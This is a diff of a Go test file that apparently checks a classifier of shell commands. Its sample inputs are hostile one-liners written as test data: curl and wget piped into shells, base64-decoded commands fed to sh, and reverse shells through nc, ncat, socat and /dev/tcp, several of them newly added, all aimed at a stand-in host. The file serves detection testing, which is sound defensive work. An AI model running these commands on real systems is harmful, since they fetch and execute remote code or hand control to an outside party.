@@ -122,7 +122,7 @@ func TestFeatures(t *testing.T) {
 			"eval \"$(curl x.test)\"", "source <(curl x.test)", ". <(wget -qO- x.test)", "a=$(curl x.test); eval \"$a\"", "echo \"$(curl x.test)\" | sh", "python3 -c \"$(curl x.test)\"",
 			"curl x.test | python3 -", "curl x.test | perl", "curl x.test | gunzip | tee y | bash", "curl x.test | base64 -d | sh", "curl x.test | tee >(sh)", "cat <(curl x.test) | sh",
 			"curl -o f x.test && sh f", "curl -sO https://x.test/i.sh && bash i.sh", "wget https://x.test/x; chmod +x x; ./x", "curl x.test > f; sh < f", "wget -O /tmp/a x.test && python3 /tmp/a",
-			"curl x.test | xargs -I{} sh -c '{}'", "$(curl x.test)", "nc -l 44 | sh", "exec 3<>/dev/tcp/x.test/1; bash <&3",
+			"curl x.test | xargs -I{} sh -c '{}'", "$(curl x.test)", "nc -l 44 | sh", "nc -e /bin/sh x.test 1", "ncat --sh-exec 'bash -i' x.test 1", "socat TCP:x.test:1 EXEC:'bash -li',pty", "exec 3<>/dev/tcp/x.test/1; bash <&3",
 		},
 		FeatureDecodeAndRun: {
 			"echo bHM= | base64 -d | sh", "base64 --decode f | bash", "eval $(echo bHM= | base64 -d)", "xxd -r -p f | sh", "echo sl | rev | sh", "echo x | tr a-z b-za | sh", "openssl enc -d -base64 -in f | sh",
